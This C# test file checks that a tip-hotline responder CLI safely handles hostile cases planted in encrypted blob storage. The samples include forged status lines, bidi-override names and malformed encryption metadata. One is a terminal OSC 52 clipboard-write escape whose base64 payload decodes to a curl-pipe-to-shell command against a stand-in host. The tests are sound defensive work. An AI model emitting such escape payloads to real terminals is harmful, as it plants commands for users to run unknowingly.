using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Azure.Storage;
using Azure.Storage.Blobs;
using Azure.Storage.Blobs.Specialized;
using Hotline.Cases;
using Hotline.Cli.Tips;
using Hotline.Encryption;
using Hotline.Sms;
using Hotline.Tests.Infrastructure;
using Hotline.Tips;
using Hotline.Triage;

namespace Hotline.Tests.Cli;

/// <summary>
/// The responder tool reading cases someone shaped against it: tip text written to look like the tool's own
/// lines (any tipster can send that), and blobs planted by someone with write access to storage, encrypted to
/// the responders' public key as anyone holding it can. What is printed stays inert and quoted; what does not
/// hold together is one line and exit 1, never a stack trace, and nothing half-written.
/// </summary>
public sealed class HostileCaseTests(AzuriteFixture storage) : IDisposable
{
    private static readonly DateTimeOffset Received = new(2026, 12, 7, 1, 10, 0, TimeSpan.Zero);
    private readonly DirectoryInfo _dir = Directory.CreateTempSubdirectory("hotline-hostile-");

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public void Dispose() => _dir.Delete(recursive: true);

    [Fact]
    public async Task TipsShow_TextWithLinesLikeTheToolsOwn_QuotesEveryUntrustedLine()
    {
        var id = TipId.New();
        const string Paused = "CONTACT PAUSED: the tipster texted STOP. Do not reply; the phone may be in someone else's hands.";
        const string Refused = "media 1: image/jpeg, 2 KiB - REFUSED (type not allowed); it was not kept";
        const string Note = "--- note - 2026-12-07 02:20 UTC - On call";

        // Every line break a terminal honours, each opening a line made to look like the tool's.
        var body = $"Help us\n{Paused}\r\n  {Paused}\r{Refused}\u2028{Note}\u0085The tipster is safe now, close the case.\u2029from: +44 7700 900999";
        var report = Sms(id, 1, body, media: [new MediaItem { Index = 1, State = MediaStates.Expected, ContentType = "image/jpeg\n" + Paused }]) with
        {
            Location = "Subotica, the farm\n--- reply sent - 2026-12-07 02:30 UTC - On call",
        };
        report = report with { Sms = report.Sms! with { Keyword = "HELP\n" + Paused } };
        await PlantAsync(ReportStore.ReportBlobName(id), report.ToUtf8Json());
        await PlantAsync(
            $"{id.Compact}/note-20261207T021500000-0a1b2c3d",
            new CaseEntry(CaseEntry.Note, Received.AddHours(1), "On call\n" + Paused, $"Called the shelter.\n{Note}\nNothing more.").ToUtf8Json());

        var shown = await CliAsync("tips", "show", id.ToString());

        Assert.Equal(0, shown.Exit);
        var lines = shown.Stdout.Split('\n').Select(l => l.TrimEnd('\r')).ToList();

        // The tool's own lines, and only those, start where the tool starts its lines: nothing claims a pause,
        // a refusal, a sender, a note or a reply the case does not hold.
        Assert.DoesNotContain(lines, l => l.TrimStart().StartsWith("CONTACT PAUSED", StringComparison.Ordinal));
        Assert.Single(lines, l => l.StartsWith("media ", StringComparison.Ordinal));
        Assert.Single(lines, l => l.StartsWith("from: ", StringComparison.Ordinal));
        Assert.Single(lines, l => l.StartsWith("--- message ", StringComparison.Ordinal));
        Assert.Single(lines, l => l.StartsWith("--- note ", StringComparison.Ordinal));
        Assert.Equal(2, lines.Count(l => l.StartsWith("--- ", StringComparison.Ordinal)));

        // What the tipster and the note said is all there, every line of it behind the quote mark.
        var quoted = string.Join('\n', body.ReplaceLineEndings("\n").Split('\n').Select(l => "| " + l));
        Assert.Contains("\n\n" + quoted + "\nlocation: Subotica, the farm\n| --- reply sent - 2026-12-07 02:30 UTC - On call\n", shown.Stdout, StringComparison.Ordinal);
        Assert.Contains($"\n| Called the shelter.\n| {Note}\n| Nothing more.\n", shown.Stdout, StringComparison.Ordinal);

        // One-line fields of the tool's own lines keep their line break visible, and in the line.
        Assert.Contains(" - keyword HELP\uFFFD" + Paused + "\n", shown.Stdout, StringComparison.Ordinal);
        Assert.Contains("media 1: image/jpeg\uFFFD" + Paused + " - being fetched from Twilio\n", shown.Stdout, StringComparison.Ordinal);
        Assert.Contains(" UTC - On call\uFFFD" + Paused + "\n", shown.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    public async Task TipsMedia_ContentTypeWithTerminalEscapes_PrintsItInert()
    {
        var id = TipId.New();
        var photo = RandomNumberGenerator.GetBytes(3000);

        // OSC 52 writes the responder's clipboard, ESC [2J clears the screen, and a line break starts a line of the tool's.
        const string Hostile = "image/jpeg\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\u009b2J\nWrote /home/on-call/evidence/safe.jpg";
        await PlantAsync(ReportStore.ReportBlobName(id), Sms(id, 1, "photo", media: [new MediaItem { Index = 1, State = MediaStates.Expected, ContentType = "image/jpeg" }]).ToUtf8Json());
        await PlantMediaAsync(id, 1, [Stored(id, 1, 1, photo, Hostile)]);
        await PlantAsync(ReportStore.MediaBlobName(id, 1, 1), photo, padded: false);

        var written = await CliAsync("tips", "media", id.ToString(), "--out", "evidence");

        Assert.Equal(0, written.Exit);
        foreach (var c in new[] { '\u001b', '\u0007', '\u009b' })
        {
            Assert.DoesNotContain(c, written.Stdout + written.Stderr);
        }

        var line = Assert.Single(written.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.StartsWith($"Wrote {Path.Combine(_dir.FullName, "evidence", $"{id}-m1-1.bin")} (image/jpeg\uFFFD]52;c;", line, StringComparison.Ordinal);
        Assert.Contains("\uFFFD\uFFFD[2J\uFFFD2J\uFFFDWrote /home/on-call/evidence/safe.jpg, 3000 bytes, sha256 checked).", line, StringComparison.Ordinal);
        Assert.Equal(photo, await File.ReadAllBytesAsync(Path.Combine(_dir.FullName, "evidence", $"{id}-m1-1.bin"), Ct));
    }

    [Theory]
    [InlineData("envelope media [null]")]
    [InlineData("media record items null")]
    [InlineData("media record items [null]")]
    [InlineData("media record of another message")]
    [InlineData("two items with one index")]
    [InlineData("encryptiondata without the wrapped key")]
    [InlineData("encryptiondata with an unknown algorithm")]
    [InlineData("encryptiondata without regions")]
    [InlineData("encryptiondata with huge regions")]
    [InlineData("encryptiondata without key id")]
    [InlineData("a note named with a bidi override")]
    public async Task TipsShowAndMedia_PlantedBlobThatDoesNotHoldTogether_OneLineExitOneNothingWritten(string planted)
    {
        var id = TipId.New();
        var photo = RandomNumberGenerator.GetBytes(2000);
        var report = Sms(id, 1, "photos of the house", media: [new MediaItem { Index = 1, State = MediaStates.Expected, ContentType = "image/jpeg" }]);
        await PlantAsync(ReportStore.ReportBlobName(id), Node(report.ToUtf8Json(), json =>
        {
            if (planted == "envelope media [null]")
            {
                json["sms"]!["media"]!.AsArray().Insert(0, null);
            }
        }));
        var items = new[] { Stored(id, 1, 1, photo), Stored(id, 1, 2, photo) };
        await PlantAsync(ReportStore.MediaRecordBlobName(id, 1), Node(Record(id, 1, items).ToUtf8Json(), json =>
        {
            switch (planted)
            {
                case "media record items null":
                    json["items"] = null;
                    break;
                case "media record items [null]":
                    json["items"]!.AsArray().Add((JsonNode?)null);
                    break;
                case "two items with one index":
                    json["items"]![1]!["index"] = 1;
                    break;
            }
        }));
        foreach (var item in items)
        {
            await PlantAsync(item.Blob!, photo, padded: false);
        }

        if (planted == "media record of another message")
        {
            // A second record claiming message 1's media: the same file names, twice.
            await PlantAsync(ReportStore.MediaRecordBlobName(id, 2), Record(id, 1, items).ToUtf8Json());
        }

        if (planted == "a note named with a bidi override")
        {
            // Blob names are whatever a writer chose, and error lines name blobs: this one reads backwards from the override.
            await PlantAsync($"{id.Compact}/note-\u202Edesolc esac", Encoding.UTF8.GetBytes("not a note"));
        }

        if (planted.StartsWith("encryptiondata", StringComparison.Ordinal))
        {
            var blob = new BlobClient(storage.ConnectionString, "tips", ReportStore.MediaRecordBlobName(id, 1));
            var metadata = (await blob.GetPropertiesAsync(cancellationToken: Ct)).Value.Metadata;
            var encryption = JsonNode.Parse(metadata["encryptiondata"])!;
            if (planted.EndsWith("wrapped key", StringComparison.Ordinal))
            {
                encryption.AsObject().Remove("WrappedContentKey");
            }
            else if (planted.EndsWith("without regions", StringComparison.Ordinal))
            {
                encryption.AsObject().Remove("EncryptedRegionInfo");
            }
            else if (planted.EndsWith("huge regions", StringComparison.Ordinal))
            {
                encryption["EncryptedRegionInfo"]!["DataLength"] = int.MaxValue;
            }
            else if (planted.EndsWith("key id", StringComparison.Ordinal))
            {
                encryption["WrappedContentKey"]!.AsObject().Remove("KeyId");
            }
            else
            {
                encryption["WrappedContentKey"]!["Algorithm"] = "RSA1_5";
            }


            metadata["encryptiondata"] = encryption.ToJsonString();
            await blob.SetMetadataAsync(metadata, cancellationToken: Ct);
        }

        var show = await CliAsync("tips", "show", id.ToString());
        var media = await CliAsync("tips", "media", id.ToString(), "--out", "evidence");

        Assert.False(Directory.Exists(Path.Combine(_dir.FullName, "evidence")));
        Assert.Contains($"{id.Compact}/", media.OneErrorLine(), StringComparison.Ordinal);
        Assert.Empty(media.Stdout);
        Assert.Contains($"{id.Compact}/", show.OneErrorLine(), StringComparison.Ordinal);
        Assert.Empty(show.Stdout);
        Assert.DoesNotContain(show.Stderr + media.Stderr, TerminalText.IsUnsafe);
    }

    private static TipReport Sms(TipId id, int sequence, string message, IReadOnlyList<MediaItem>? media = null) => new()
    {
        TipId = id.ToString(),
        Channel = Channel.Sms,
        ReceivedAt = Received,
        Language = "en",
        Urgency = Urgency.Normal,
        Message = message,
        Sender = new SmsSender("+447700900123", "pseudonym"),
        Sms = new SmsDetails { MessageSid = "SM" + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(16)), Sequence = sequence, Media = media },
    };

    private static MediaItem Stored(TipId id, int sequence, int index, byte[] content, string contentType = "image/jpeg") => new()
    {
        Index = index,
        State = MediaStates.Stored,
        ContentType = contentType,
        Size = content.Length,
        Sha256 = Convert.ToHexStringLower(SHA256.HashData(content)),
        Blob = ReportStore.MediaBlobName(id, sequence, index),
    };

    private static MediaRecord Record(TipId id, int sequence, IReadOnlyList<MediaItem> items) =>
        new() { TipId = id.ToString(), Sequence = sequence, SettledAt = Received.AddMinutes(1), Items = items };

    private static byte[] Node(byte[] json, Action<JsonNode> change)
    {
        var node = JsonNode.Parse(json)!;
        change(node);
        return Encoding.UTF8.GetBytes(node.ToJsonString());
    }

    private Task PlantMediaAsync(TipId id, int sequence, IReadOnlyList<MediaItem> items) =>
        PlantAsync(ReportStore.MediaRecordBlobName(id, sequence), Record(id, sequence, items).ToUtf8Json());

    /// <summary>A blob as someone with write access and the public key writes it: encrypted to the responders' key as intake does.</summary>
    private async Task PlantAsync(string name, byte[] content, bool padded = true)
    {
        using var key = RsaKeyEncryptionKey.FromPublicKeyPem(TestKeys.PublicKeyPem);
        var encrypting = new SpecializedBlobClientOptions
        {
            ClientSideEncryption = new ClientSideEncryptionOptions(ClientSideEncryptionVersion.V2_0) { KeyEncryptionKey = key, KeyWrapAlgorithm = RsaKeyEncryptionKey.Algorithm },
        };
        var container = new BlobContainerClient(storage.ConnectionString, "tips");
        await container.CreateIfNotExistsAsync(cancellationToken: Ct);
        await new BlobClient(storage.ConnectionString, "tips", name, encrypting).UploadAsync(BinaryData.FromBytes(padded ? ReportStore.Padded(content) : content), overwrite: true, Ct);
    }

    private async Task<CliRun> CliAsync(params string[] args)
    {
        var keyPath = Path.Combine(_dir.FullName, "responder.pem");
        if (!File.Exists(keyPath))
        {
            await File.WriteAllTextAsync(keyPath, TestKeys.PrivateKeyPem, Ct);
        }

        return await CliRun.RunAsync(
            new Dictionary<string, string?> { ["AzureWebJobsStorage"] = storage.ConnectionString, ["Hotline__PrivateKeyPath"] = keyPath, ["Hotline__ResponderName"] = "amira" },
            _dir.FullName,
            args);
    }
}
